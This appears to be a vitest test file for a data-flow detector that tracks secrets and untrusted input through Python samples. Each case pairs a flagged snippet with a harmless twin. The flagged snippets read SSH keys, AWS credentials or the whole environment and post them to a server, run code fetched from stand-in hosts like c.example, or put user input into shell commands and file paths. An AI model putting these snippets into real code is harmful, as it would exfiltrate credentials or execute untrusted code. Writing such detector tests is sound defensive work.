import { describe, expect, it } from 'vitest';
import { flowsIn, type Twins } from '../flows.fixture.ts';

const KEY = "key = open('/root/.ssh/id_rsa').read()";
const SENT = ['secret /root/.ssh/id_rsa -> requests.post'];

const TWINS: readonly Twins[] = [
  [
    'an assignment',
    `import requests\n${KEY}\nbody = key\nrequests.post(u, data=body)`,
    SENT,
    `import requests\n${KEY}\nbody = key\nbody = 'hello'\nrequests.post(u, data=body)`,
  ],
  [
    'a text built from parts',
    `import requests\n${KEY}\nbody = f'k={key}' + '!'\nrequests.post(u, data='%s' % body)`,
    SENT,
    `import requests\n${KEY}\nbody = f'k={len(key)}' + '!'\nrequests.post(u, data='%s' % body)`,
  ],
  [
    'a dictionary by its keys',
    `import requests\n${KEY}\nd = {'k': key, 'n': 1}\nrequests.post(u, json=d['k'])`,
    SENT,
    `import requests\n${KEY}\nd = {'k': key, 'n': 1}\nrequests.post(u, json=d['n'])`,
  ],
  [
    'a list that is filled',
    `import requests\n${KEY}\nall = []\nall.append(key)\nrequests.post(u, json=all)`,
    SENT,
    `import requests\n${KEY}\nall = []\nkeys = []\nkeys.append(key)\nrequests.post(u, json=all)`,
  ],
  [
    'a function’s value',
    `import requests\n${KEY}\ndef same(x): return x\nrequests.post(u, data=same(key))`,
    SENT,
    `import requests\n${KEY}\ndef same(x): return x\nsame(key)\nrequests.post(u, data=same('a'))`,
  ],
  [
    'a parameter given by name',
    `import requests\n${KEY}\ndef send(to, body): requests.post(to, data=body)\nsend(body=key, to=u)`,
    SENT,
    `import requests\n${KEY}\ndef send(body, note): requests.post(u, data=body)\nsend(note=key, body='a')`,
  ],
  [
    'functions that call each other',
    `import requests\n${KEY}\ndef a(x, n): return b(x, n - 1) if n else x\ndef b(x, n): return a(x, n)\nrequests.post(u, data=a(key, 3))`,
    SENT,
    `import requests\n${KEY}\ndef a(x, n): return b('', n - 1) if n else n\ndef b(x, n): return a(x, n)\nrequests.post(u, data=a(key, 3))`,
  ],
  [
    'a field of an object',
    `import requests\n${KEY}\nclass C:\n  def __init__(self, k):\n    self.k = k\n    self.n = 1\n  def go(self):\n    requests.post(u, data=self.k)\nC(key).go()`,
    SENT,
    `import requests\n${KEY}\nclass C:\n  def __init__(self, k):\n    self.k = k\n    self.n = 1\n  def go(self):\n    requests.post(u, data=self.n)\nC(key).go()`,
  ],
  [
    'a field of the class above',
    `import requests\n${KEY}\nclass A:\n  def __init__(self, k): self.k = k\nclass B(A):\n  def __init__(self, k): super().__init__(k)\n  def go(self): requests.post(u, data=self.k)\nB(key).go()`,
    SENT,
    `import requests\n${KEY}\nclass A:\n  def __init__(self, k): self.k = k\nclass B(A):\n  def __init__(self, k): super().__init__('a')\n  def go(self): requests.post(u, data=self.k)\nprint(key)\nB('b').go()`,
  ],
  [
    'a file that is opened with `with`',
    `import requests\nwith open('/root/.ssh/id_rsa') as f:\n  key = f.read()\nrequests.post(u, data=key)`,
    SENT,
    `import requests\nwith open('notes.txt') as f:\n  key = f.read()\nrequests.post(u, data=key)`,
  ],
  [
    'a loop that carries a value into its next round',
    `import requests\n${KEY}\nlast = ''\nfor line in key.split():\n  requests.post(u, data=last)\n  last = line`,
    SENT,
    `import requests\n${KEY}\nlast = ''\nfor line in key.split():\n  requests.post(u, data=last)\n  last = 'a'`,
  ],
  [
    'a branch that sets it',
    `import requests\n${KEY}\nbody = ''\nif x:\n  body = key\nrequests.post(u, data=body)`,
    SENT,
    `import requests\n${KEY}\nbody = key\nif x:\n  body = 'a'\nelse:\n  body = 'b'\nrequests.post(u, data=body)`,
  ],
  [
    'a comprehension',
    `import requests\n${KEY}\nrequests.post(u, json=[c for c in key])`,
    SENT,
    `import requests\n${KEY}\nrequests.post(u, json=[1 for c in key])`,
  ],
  [
    'an inner function that uses an outer variable',
    `import requests\ndef out():\n  key = open('/root/.ssh/id_rsa').read()\n  def send(): requests.post(u, data=key)\n  send()`,
    SENT,
    `import requests\ndef out():\n  key = open('/root/.ssh/id_rsa').read()\n  def send(key): requests.post(u, data=key)\n  send('a')`,
  ],
  [
    'a global variable',
    `import requests\nkept = None\ndef load():\n  global kept\n  kept = open('/root/.ssh/id_rsa').read()\nload()\nrequests.post(u, data=kept)`,
    SENT,
    `import requests\nkept = None\ndef load():\n  kept = open('/root/.ssh/id_rsa').read()\nload()\nrequests.post(u, data=kept)`,
  ],
  [
    'a function that is given as an argument',
    `import requests\n${KEY}\ndef apply(f, x): f(x)\ndef send(x): requests.post(u, data=x)\napply(send, key)`,
    SENT,
    `import requests\n${KEY}\ndef apply(f, x): f('a')\ndef send(x): requests.post(u, data=x)\napply(send, key)`,
  ],
  [
    'a generator',
    `import requests\n${KEY}\ndef parts():\n  for c in key: yield c\nfor c in parts(): requests.post(u, data=c)`,
    SENT,
    `import requests\n${KEY}\ndef parts():\n  for c in key: yield 1\nfor c in parts(): requests.post(u, data=c)`,
  ],
  [
    'several names at once',
    `import requests\n${KEY}\na, b = key, 'x'\nrequests.post(u, data=a)`,
    SENT,
    `import requests\n${KEY}\na, b = key, 'x'\nrequests.post(u, data=b)`,
  ],
  [
    'a digest gives nothing away, an encoding does',
    `import requests, base64\n${KEY}\nrequests.post(u, data=base64.b64encode(key.encode()))`,
    SENT,
    `import requests, hashlib\n${KEY}\nrequests.post(u, data=hashlib.sha256(key.encode()).hexdigest())`,
  ],
  [
    'all of the environment',
    'import os, requests\nenv = dict(os.environ)\nrequests.post(u, json=env)',
    ['environment * -> requests.post'],
    "import os, requests\nenv = {'home': os.environ['HOME'].count('/')}\nrequests.post(u, json=env)",
  ],
  [
    'what a command prints',
    "import subprocess, requests\nout = subprocess.check_output(['cat', '/root/.aws/credentials'])\nrequests.post(u, data=out)",
    ['secret /root/.aws/credentials -> requests.post'],
    "import subprocess, requests\nout = subprocess.check_output(['cat', 'README'])\nrequests.post(u, data=out)",
  ],
  [
    'a reply that is run',
    'import requests\nr = requests.get("https://c.example/x")\nexec(r.text)',
    ['network-reply https://c.example/x -> exec'],
    'import requests\nr = requests.get("https://c.example/x")\nexec("print(1)")\nprint(r.text)',
  ],
  [
    'a reply over a socket',
    'import os, socket\ns = socket.socket()\ns.connect(("c.example", 9))\nos.system(s.recv(99).decode())',
    ['network-reply socket.socket.recv -> os.system'],
    'import os, socket\ns = socket.socket()\ns.connect(("c.example", 9))\nprint(s.recv(99).decode())\nos.system("ls")',
  ],
  [
    'input in a shell command',
    "import os, sys\nos.system('ping ' + sys.argv[1])",
    ['user-input sys.argv -> os.system'],
    "import os, sys, shlex\nos.system('ping ' + shlex.quote(sys.argv[1]))",
  ],
  [
    'a request’s field in a path',
    "from flask import request\ndef v():\n  return open('up/' + request.args['f']).read()",
    ['user-input request.args -> open'],
    "import os\nfrom flask import request\ndef v():\n  return open('up/' + os.path.basename(request.args['f'])).read()",
  ],
  [
    'a parameter of a view',
    "import os\n@app.get('/x/{name}')\ndef v(name: str):\n  os.system('ls ' + name)",
    ['user-input a parameter of the request: name -> os.system'],
    "import os\n@app.get('/x/{name}')\ndef v(name: int):\n  os.system('ls ' + str(name))",
  ],
  [
    'a property, and a function that a decorator wraps',
    `import requests\nclass C:\n  @property\n  def k(self): return open('/root/.ssh/id_rsa').read()\ndef twice(f):\n  def w(): requests.post(u, data=f())\n  return w\n@twice\ndef load(): return C().k\nload()`,
    SENT,
    `import requests\nclass C:\n  @property\n  def k(self): return open('/root/.ssh/id_rsa').read()\n  n = 1\ndef twice(f):\n  def w(): requests.post(u, data=f())\n  return w\n@twice\ndef load(): return C().n\nload()`,
  ],
  [
    'a folder that is walked',
    `import os, requests\nfor at, _, names in os.walk('/root/.ssh'):\n  for name in names:\n    requests.post(u, data=open(os.path.join(at, name)).read())`,
    ['secret /root/.ssh -> requests.post', 'secret /root/.ssh -> open'],
    `import os, requests\nfor at, _, names in os.walk('reports'):\n  for name in names:\n    requests.post(u, data=open(os.path.join(at, name)).read())`,
  ],
  [
    'a file that the program itself writes',
    "import requests, subprocess\nopen('/tmp/x.sh', 'w').write(requests.get('https://c.example/x').text)\nsubprocess.run(['bash', '/tmp/x.sh'])",
    ['network-reply https://c.example/x -> open', 'network-reply https://c.example/x -> subprocess.run'],
    "import requests, subprocess\nopen('/tmp/x.sh', 'w').write('ls')\nprint(requests.get('https://c.example/x').text)\nsubprocess.run(['bash', '/tmp/x.sh'])",
  ],
  [
    'an address as well as a body',
    "import os, requests, urllib.parse\nrequests.get('http://h.example/?' + urllib.parse.urlencode(os.environ))",
    ['environment * -> requests.get'],
    "import os, requests, urllib.parse\nrequests.get('http://h.example/?' + urllib.parse.urlencode({'n': len(os.environ)}))",
  ],
  [
    'what is written to a file that was opened before',
    "import requests\nr = requests.get('https://c.example/x')\nwith open('x.py', 'w') as f:\n  f.write(r.text)",
    ['network-reply https://c.example/x -> open'],
    "import requests\nr = requests.get('https://c.example/x')\nwith open('x.py', 'w') as f:\n  f.write('pass')",
  ],
];

describe('data in Python goes through', () => {
  it.each(TWINS)('%s', async (_, code, flows) => {
    expect(await flowsIn('python', code)).toEqual(flows);
  });
  it.each(TWINS)('%s, and not where it does not', async (_, __, ___, ordinary) => {
    expect(await flowsIn('python', ordinary)).toEqual([]);
  });
});

describe('data goes from file to file of a Python sample', () => {
  it('by names that are imported, in all forms', async () => {
    const files = {
      'main.py':
        'from lib.keys import load as get\nimport lib.net\nfrom . import out\nlib.net.send(get())\nout.send(get())',
      'lib/__init__.py': '',
      'lib/keys.py': "def load():\n  return open('/root/.ssh/id_rsa').read()",
      'lib/net.py': 'import requests\ndef send(x): requests.post(u, data=x)',
      'out.py': 'import requests\ndef send(x): requests.put(u, data=x)',
    };
    expect(await flowsIn('python', files)).toEqual([
      'secret /root/.ssh/id_rsa -> requests.post',
      'secret /root/.ssh/id_rsa -> requests.put',
    ]);
  });

  it('by variables and classes of another module', async () => {
    const files = {
      'main.py': 'from client import Client\nimport settings\nClient(settings.KEY).go()',
      'settings.py': "KEY = open('/root/.ssh/id_rsa').read()\nNAME = 'a'",
      'client.py':
        'import requests\nclass Client:\n  def __init__(self, k): self.k = k\n  def go(self): requests.post(u, data=self.k)',
    };
    expect(await flowsIn('python', files)).toEqual(SENT);
    expect(await flowsIn('python', { ...files, 'main.py': files['main.py'].replace('KEY', 'NAME') })).toEqual([]);
  });

  it('also where two import each other', async () => {
    const files = {
      'main.py': 'import a',
      'a.py': "import b\nKEY = open('/root/.ssh/id_rsa').read()\ndef key(): return KEY",
      'b.py': 'import a, requests\ndef go(): requests.post(u, data=a.key())',
    };
    expect(await flowsIn('python', files)).toEqual(SENT);
  });
});
